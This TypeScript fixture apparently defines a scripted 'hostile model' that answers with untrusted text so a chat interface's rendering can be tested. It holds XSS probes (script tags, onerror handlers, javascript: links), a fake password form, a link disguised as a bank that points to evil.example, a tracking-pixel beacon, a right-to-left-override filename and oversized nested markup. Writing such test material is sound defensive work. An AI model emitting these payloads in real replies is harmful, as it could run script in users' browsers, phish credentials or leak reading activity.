import type { ScriptedRule } from 'assistants-react/backend';

/** Body of createAssistant. */
export const assistant = {
  model: 'scripted',
  name: 'Hostile model',
  description: 'Answers with texts that a page must not trust.',
  tools: [],
};

const HTML = `<script>alert('hello')</script>

<img src=x onerror="alert('hello')"> <iframe src="https://example.com"></iframe>

<form action="https://example.com"><input name="password" placeholder="Password"></form>`;

const LINKS = `[A script](javascript:alert(1)), [data](data:text/html,<script>alert(1)</script>), and a link that
names another host: [https://bank.example](https://evil.example/login).

![A picture that reports its readers](https://evil.example/beacon.png?thread=42)`;

const LETTERS = `Right to left override: \u202Etxt.exe\u202C, a z\u0351\u036B\u0343\u036A\u0302\u036B\u033D\u034F\u0334\u0319a\u035C\u0315\u0315l\u0360g\u0321o\u0315 word,
a flag 🏴󠁧󠁢󠁳󠁣󠁴󠁿, a family 👩‍👩‍👧‍👦, and a word without an end: ${'a'.repeat(2_000)}`;

const NESTED = `${'> '.repeat(200)}deep inside\n\n${'- '.repeat(200)}a list\n\n**${'*'.repeat(500)}`;

const LONG_TABLE = `| ${Array.from({ length: 40 }, (_, column) => `Column ${column}`).join(' | ')} |
|${'--|'.repeat(40)}
${Array.from({ length: 200 }, (_, row) => `| ${Array.from({ length: 40 }, (_unused, column) => row * column).join(' | ')} |`).join('\n')}`;

/** Rules of the scripted model, used here in place of a real one. */
export const script: readonly ScriptedRule[] = [
  { when: /\bhtml\b/i, say: HTML },
  { when: /\blinks?\b|\bpictures?\b/i, say: LINKS },
  { when: /\bletters?\b/i, say: LETTERS },
  { when: /\bnested\b|\bdeep\b/i, say: NESTED },
  { when: /\btable\b|\bhuge\b/i, say: LONG_TABLE },
  { say: 'Ask me for HTML, links, letters, nested text or a huge table.' },
];
